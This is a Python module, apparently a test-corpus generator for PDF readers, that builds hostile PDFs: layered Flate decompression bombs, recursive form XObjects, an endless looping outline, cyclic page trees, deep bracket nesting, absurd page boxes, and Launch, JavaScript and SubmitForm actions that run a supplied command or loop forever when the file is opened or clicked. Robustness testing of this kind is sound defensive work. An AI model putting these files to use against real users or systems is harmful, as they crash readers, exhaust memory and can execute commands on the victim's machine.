"""PDFs made to harm whoever opens them, each from a few lines: what is big in them comes of packing."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Mapping

Objects = dict[int, bytes]
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"
_WORDS = b"BT /F1 9 Tf 40 800 Td (Kaupunki kokeili.) Tj ET\n"


def _stream(data: bytes, more: str = "", *, is_bomb: bool = False) -> bytes:
    """Pack a stream; a bomb is packed already, and twice then."""
    data = zlib.compress(data, 9)
    filters = "/FlateDecode/FlateDecode" if is_bomb else "/FlateDecode"
    return f"<</Length {len(data)}/Filter[{filters}]{more}>>stream\n".encode() + data + b"\nendstream"


def _file(objects: Objects, trailer: str = "") -> bytes:
    """Write objects with their table: 1 is the catalogue."""
    data = bytearray(b"%PDF-1.7\n")
    places: dict[int, int] = {}
    for number, body in objects.items():
        places[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(data), max(objects) + 1
    data += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        data += b"%010d 00000 %s \n" % (places.get(number, 0), b"n" if number in places else b"f")
    data += f"trailer<</Size {size}/Root 1 0 R{trailer}>>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(data)


def _book(content: bytes, *, pages: int = 1, box: str = "0 0 595 842", page: str = "", more: str = "") -> Objects:
    """Make pages that all show one stream, object 4; what comes beside them begins at 10000."""
    kids = " ".join(f"{100 + number} 0 R" for number in range(pages))
    objects: Objects = {
        1: f"<</Type/Catalog/Pages 2 0 R{more}>>".encode(),
        2: f"<</Type/Pages/Kids[{kids}]/Count {pages}>>".encode(),
        3: _FONT,
        4: content,
    }
    for number in range(pages):
        objects[100 + number] = (
            f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Resources<</Font<</F1 3 0 R>>/XObject<</X 10000 0 R>>>>"
            f"/Contents 4 0 R{page}>>"
        ).encode()
    return objects


def two_thousand_pages(glyphs: int = 60_000) -> bytes:
    """Make 2,000 pages of so many letters each, all of them the same stream, with labels of a thousand letters."""
    line = b"BT /F1 4 Tf 10 10 Td (" + b"kaupunki " * (glyphs // 9) + b") Tj ET\n"
    return _file(_book(_stream(line), pages=2000, more="/PageLabels<</Nums[0<</S/r/St 999000>>]>>"))


def millions_of_glyphs(glyphs: int = 4_000_000) -> bytes:
    """Put so many letters on one page, each line at a place of its own."""
    words = b") Tj 0 -5 Td (" + b"kaupunki kokeili " * 10
    return _file(_book(_stream(_WORDS + b"BT /F1 4 Tf 10 800 Td (" + words * (glyphs // 170) + b") Tj ET\n")))


def content_bomb() -> bytes:
    """Pack 1.6 GB of nothing into a page's stream."""
    return _file(_book(_stream(_bomb(200), is_bomb=True)))


def object_stream_bomb() -> bytes:
    """Pack 1.6 GB of nothing into the stream that is to hold the pages."""
    objects = _book(_stream(_WORDS))
    objects[5] = _stream(_bomb(200), "/Type/ObjStm/N 2/First 12", is_bomb=True)
    del objects[2]
    return _file(objects)


def _bomb(times: int) -> bytes:
    """Give a packed stream of so many times 8 MB of spaces: one packed piece, again and again."""
    piece = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    packed = piece.compress(b" " * 8_388_608) + piece.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\xda" + packed * times + b"\x03\x00" + b"\0" * 4


def laughing_forms() -> bytes:
    """Let forms show forms: ten times ten times ten, twelve deep, and the last one shows the first."""
    objects = _book(_stream(_WORDS + b"/X Do\n"))
    for level in range(12):
        after = 10000 + (level + 1) % 12
        more = f"/Type/XObject/Subtype/Form/BBox[0 0 600 900]/Resources<</Font<</F1 3 0 R>>/XObject<</X {after} 0 R>>>>"
        objects[10000 + level] = _stream(b"/X Do\n" * 10 + _WORDS, more)
    return _file(objects)


def giant_boxes() -> list[bytes]:
    """Make pages as large as a country, of no size, turned inside out, and with units of a mile."""
    boxes = ("0 0 999999999 999999999", "0 0 0 0", "595 842 -595 -842", "-1e30 -1e30 1e30 1e30", "0 0 1 99999999")
    books = [_file(_book(_stream(_WORDS), box=box)) for box in boxes]
    return [*books, _file(_book(_stream(_WORDS), page="/UserUnit 999999/Rotate 45"))]


def endless_outline(depth: int = 20_000) -> bytes:
    """Make contents that go down so deep, and whose last item leads back to the first."""
    objects = _book(_stream(_WORDS), more="/Outlines 10000 0 R")
    objects[10000] = b"<</Type/Outlines/First 10001 0 R/Last 10001 0 R/Count 1>>"
    for level in range(1, depth + 1):
        below = 10001 + level if level < depth else 10001
        objects[10000 + level] = (
            f"<</Title(Luku {level})/Parent {9999 + level} 0 R/First {below} 0 R/Last {below} 0 R"
            f"/Next 10001 0 R/Dest[100 0 R/Fit]>>"
        ).encode()
    return _file(objects)


def scripts(command: str) -> bytes:
    """Ask for a program, a script, a web page and a form to be sent: at the opening, at every page, at every click."""
    launch = f"<</S/Launch/F({command})/Unix({command})/Win<</F({command})>>>>"
    script = "<</S/JavaScript/JS(app.launchURL\\('http://127.0.0.1:9/'\\); while \\(true\\) {})>>"
    form = "<</S/SubmitForm/F(http://127.0.0.1:9/)>>"
    page = f"/AA<</O {launch}/C {script}>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A {launch}>>]"
    more = f"/OpenAction {launch}/AA<</WC {script}/DP {form}>>/Names<</JavaScript<</Names[(a) {script}]>>>>"
    return _file(_book(_stream(_WORDS), page=page, more=more))


def huge_image() -> bytes:
    """Show a picture of 60,000 by 60,000 points whose data is not there."""
    objects = _book(_stream(_WORDS + b"q 500 0 0 500 0 0 cm /X Do Q\n"))
    more = "/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB"
    objects[10000] = _stream(_bomb(13), more, is_bomb=True)
    return _file(objects)


def nested_arrays() -> bytes:
    """Open a hundred thousand brackets in the catalogue, and as many in the page's stream."""
    return _file(_book(_stream(b"[" * 500_000 + _WORDS), more="/X" + "[" * 100_000))


def looping_pages() -> bytes:
    """Let the pages hold themselves."""
    objects = _book(_stream(_WORDS))
    objects[2] = b"<</Type/Pages/Kids[2 0 R 2 0 R 100 0 R 2 0 R]/Count 2147483647>>"
    return _file(objects)


MAKERS: Mapping[str, Callable[[], bytes]] = {
    "2000-sivua": two_thousand_pages,
    "miljoonia": millions_of_glyphs,
    "sisalto": content_bomb,
    "oliovirta": object_stream_bomb,
    "lomakkeet": laughing_forms,
    "luvut": endless_outline,
    "kuva": huge_image,
    "sulut": nested_arrays,
    "silmukka": looping_pages,
    **{f"laatikko-{number}": (lambda number=number: giant_boxes()[number]) for number in range(6)},
}
